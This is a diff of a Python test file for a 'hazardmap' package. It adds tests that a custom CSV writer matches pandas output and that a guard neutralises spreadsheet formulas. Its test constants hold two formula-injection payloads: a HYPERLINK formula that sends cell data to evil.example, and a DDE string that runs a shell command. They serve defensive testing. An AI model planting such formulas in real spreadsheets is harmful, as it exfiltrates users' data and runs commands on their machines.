@@ -3,6 +3,7 @@ spreadsheet, and hazardmap reads its own tables back as they were."""
 
 from __future__ import annotations
 
+import io
 from pathlib import Path
 
 import geopandas as gpd
@@ -11,16 +12,18 @@ import pandas as pd
 import shapely
 from openpyxl import load_workbook
 
-from hazardmap.outputs.changes import change_columns, read_previous, write_changes
+from hazardmap.io.previous import read_previous
+from hazardmap.model.changes import change_columns
 from hazardmap.outputs.tables import (
-    FORMULA_TRIGGERS,
-    neutralise_formulas,
-    restore_formulas,
+    csv_text,
+    write_changes,
+    write_csv,
     write_households,
     write_priorities,
     write_villages,
     write_xlsx,
 )
+from hazardmap.spreadsheet import FORMULA_TRIGGERS, neutralise_formulas, restore_formulas
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
@@ -121,3 +124,71 @@ def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
     assert [c.value for c in rows[1][1:]] == [-0.5, 1]
     assert rows[2][1].value is None
     assert rows[3][0].value == "甲村" and rows[3][1].value == 2.0
+
+
+def pandas_csv(frame: pd.DataFrame) -> str:
+    buffer = io.StringIO()
+    frame.to_csv(buffer, index=False, lineterminator="\r\n")
+    return buffer.getvalue()
+
+
+def test_csv_text_is_what_pandas_writes(tmp_path: Path) -> None:
+    """The column-at-a-time writer gives pandas' bytes: floats as their shortest repr,
+    missing values empty, text quoted (quotes doubled) where it holds a comma, a quote or
+    a line break, headers alike."""
+    floats = [0.1, -0.0, 1e16, 1e-5, 9999999999999998.0, 5e-324, np.inf, -np.inf, np.nan]
+    n = len(floats)
+    texts = ["a,b", 'say "hi"', "two\nlines", "cr\r", "", "甲村", "'=x", " pad ", None]
+    frame = pd.DataFrame(
+        {
+            "float": floats,
+            "int8": np.arange(n, dtype=np.int8) - 4,
+            "uint64": np.full(n, 2**64 - 1, dtype=np.uint64),
+            "bool": np.arange(n) % 2 == 0,
+            "str": pd.Series(texts, dtype="str"),
+            "string": pd.Series(texts, dtype="string"),
+            'quoted, "header"': pd.Series(texts, dtype=object),
+            "empty": pd.Series([None] * n, dtype=object),
+        }
+    )
+    assert csv_text(frame) == pandas_csv(frame)
+    assert csv_text(frame.iloc[:0]) == pandas_csv(frame.iloc[:0])
+    write_csv(frame, tmp_path / "t.csv")
+    expected = "\ufeff" + pandas_csv(neutralise_formulas(frame))
+    assert (tmp_path / "t.csv").read_bytes() == expected.encode("utf-8")
+
+
+def test_the_guard_reads_only_text_cells() -> None:
+    """Columns without text (None, numbers, bytes as objects) and repeated index labels."""
+    frame = pd.DataFrame(
+        {
+            "none": pd.Series([None, None, None], dtype=object),
+            "numbers": pd.Series([-1, 2.5, -3], dtype=object),
+            "bytes": pd.Series([b"=x", "=y", None], dtype=object),
+            "text": ["=a", "b", "-c"],
+        }
+    ).set_axis([0, 0, 1])
+    safe = neutralise_formulas(frame)
+    assert safe["none"].tolist() == [None, None, None]
+    assert safe["numbers"].tolist() == [-1, 2.5, -3]
+    assert safe["bytes"].tolist() == [b"=x", "'=y", None]
+    assert safe["text"].tolist() == ["'=a", "b", "'-c"]
+    assert safe.index.tolist() == [0, 0, 1]
+    pd.testing.assert_frame_equal(restore_formulas(safe), frame)
+
+
+def test_other_columns_are_left_to_pandas(tmp_path: Path) -> None:
+    mixed = pd.DataFrame({"a": [1, "-2", 1.5, None], "b": [1.0, 2.0, 3.0, 4.0]})
+    others = {
+        "mixed objects": mixed,
+        "float32": mixed.assign(a=np.float32(0.1)),
+        "categorical": mixed.assign(a=pd.Categorical(["x", "y", "x", None])),
+        "nullable integers": mixed.assign(a=pd.array([1, None, 3, 4], dtype="Int64")),
+        "one column": mixed[["b"]],
+    }
+    for name, frame in others.items():
+        assert csv_text(frame) is None, name
+        write_csv(frame, tmp_path / "t.csv")
+        written = (tmp_path / "t.csv").read_bytes()
+        expected = "\ufeff" + pandas_csv(neutralise_formulas(frame))
+        assert written == expected.encode("utf-8"), name
